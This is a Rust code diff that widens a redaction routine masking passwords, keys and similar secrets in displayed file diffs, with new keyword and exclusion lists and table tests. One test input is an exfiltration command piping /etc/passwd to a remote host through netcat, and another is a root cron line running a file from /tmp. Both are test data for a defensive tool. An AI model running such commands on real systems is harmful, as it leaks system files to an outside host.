@@ -14,7 +14,7 @@ const TIME: Duration = Duration::from_millis(200);
 /// What stands in the place of a password.
 const HIDDEN: &[u8] = b"***";
 /// Words after which a value is a password or the like.
-const WORDS: [&[u8]; 10] = [
+const WORDS: [&[u8]; 20] = [
     b"password",
     b"passwd",
     b"passphrase",
@@ -25,7 +25,21 @@ const WORDS: [&[u8]; 10] = [
     b"api-key",
     b"authorization",
     b"pwd",
+    b"pass",
+    b"bindpw",
+    b"privatekey",
+    b"private_key",
+    b"presharedkey",
+    b"access_key",
+    b"accesskey",
+    b"identified by",
+    b"mat_khau",
+    b"matkhau",
 ];
+/// What stands before `pass` where it is no password: a path, or where a web server sends requests on to.
+const NO_SECRET: [&[u8]; 7] = [b"/", b"proxy_", b"fastcgi_", b"uwsgi_", b"scgi_", b"grpc_", b"memcached_"];
+/// Values that say whether, not what.
+const SWITCHES: [&[u8]; 8] = [b"yes", b"no", b"on", b"off", b"true", b"false", b"none", b"required"];
 
 /// Returns lines that begin with `-` or `+`; nothing for what is no text or if no line differs.
 pub(super) fn diff(before: &[u8], after: &[u8]) -> Option<Untrusted> {
@@ -119,26 +133,28 @@ fn secret_at(before: &[u8], rest: &[u8]) -> Option<(usize, usize)> {
 
 fn after_word(before: &[u8], rest: &[u8]) -> Option<(usize, usize)> {
     let word = WORDS.iter().find(|w| rest.len() > w.len() && rest[..w.len()].eq_ignore_ascii_case(w))?;
+    let is_short = *word == b"pass" && rest[word.len()].is_ascii_alphabetic();
+    if is_short || NO_SECRET.iter().any(|no| before.ends_with(no)) {
+        return None;
+    }
     let name =
         rest[word.len()..].iter().take_while(|b| b.is_ascii_alphanumeric() || b"_-\"'".contains(b)).count();
-    let mut at = word.len() + name;
-    let blank = |at: usize| rest[at..].iter().take_while(|b| b" \t".contains(b)).count();
-    let option = before.ends_with(b"-");
-    let gap = blank(at);
-    match rest.get(at + gap) {
-        Some(b'=' | b':') => at += gap + 1 + usize::from(rest.get(at + gap + 1) == Some(&b'>')),
-        Some(_) if option && gap > 0 => at += gap,
-        _ => return None,
-    }
-    at += blank(at);
-    Some((at, value(&rest[at..])))
+    let behind = &rest[word.len() + name..];
+    let gap = behind.iter().take_while(|b| b" \t=:>],)".contains(b)).count();
+    let says_so = behind[..gap].iter().any(|b| b"=:>],".contains(b));
+    // Only blanks between them: a line of PAM begins so, and then tells no secret.
+    let is_told = gap > 0 && (*word != b"password" || !before.trim_ascii().is_empty());
+    let value = value(&behind[gap..]);
+    let is_switch = SWITCHES.iter().any(|s| behind[gap..][..value].eq_ignore_ascii_case(s));
+    ((says_so || is_told) && !is_switch).then_some((word.len() + name + gap, value))
 }
 
 /// Returns the length of a value: to the closing quote, or to where a word ends. `Bearer` and its like go with it.
 fn value(rest: &[u8]) -> usize {
     match rest.first() {
         Some(quote @ (b'"' | b'\'')) => {
-            rest[1..].iter().position(|b| b == quote).map_or(rest.len(), |end| end + 2)
+            let ends = |at: usize| rest[at] == *quote && rest[at - 1] != b'\\';
+            (1..rest.len()).find(|at| ends(*at)).map_or(rest.len(), |end| end + 1)
         }
         _ => {
             let word = rest.iter().take_while(|b| !b" \t;,&<>".contains(b)).count();
@@ -201,6 +217,26 @@ mod tests {
             ("'api_key' => 'hunter2',", "+'api_key' => ***,"),
             ("password [success=1] pam_unix.so yescrypt", "+password [success=1] pam_unix.so yescrypt"),
             ("* * * * * root /tmp/x", "+* * * * * root /tmp/x"),
+            ("define('DB_PASSWORD', 'hunter2');", "+define('DB_PASSWORD', ***);"),
+            ("fastcgi_param DB_PASSWORD hunter2;", "+fastcgi_param DB_PASSWORD ***;"),
+            ("env[DB_PASSWORD] = hunter2", "+env[DB_PASSWORD] = ***"),
+            ("php_value[auth.password] = hunter2", "+php_value[auth.password] = ***"),
+            ("SetEnv DB_PASS hunter2", "+SetEnv DB_PASS ***"),
+            ("$db['pass']='hunter2';", "+$db['pass']=***;"),
+            ("<password>hunter2</password>", "+<password>***</password>"),
+            ("<entry key=\"password\">hunter2</entry>", "+<entry key=\"password\">***</entry>"),
+            ("keystorePass=\"hunter2\" x", "+keystorePass=*** x"),
+            ("requirepass hunter2", "+requirepass ***"),
+            ("bindpw hunter2", "+bindpw ***"),
+            ("PrivateKey = hunter2=", "+PrivateKey = ***"),
+            ("access_key: hunter2", "+access_key: ***"),
+            ("IDENTIFIED BY 'hunter2'", "+IDENTIFIED BY ***"),
+            ("proxy_set_header Authorization \"Basic hunter2\";", "+proxy_set_header Authorization ***;"),
+            ("mat_khau=hunter2", "+mat_khau=***"),
+            (r"password='it\'s hunter2' x", "+password=*** x"),
+            ("proxy_pass http://198.51.100.7;", "+proxy_pass http://198.51.100.7;"),
+            ("PermitEmptyPasswords yes", "+PermitEmptyPasswords yes"),
+            ("cat /etc/passwd | nc 198.51.100.7 80", "+cat /etc/passwd | nc 198.51.100.7 80"),
         ];
         for (line, want) in table {
             assert_eq!(shown("", line).unwrap(), want);
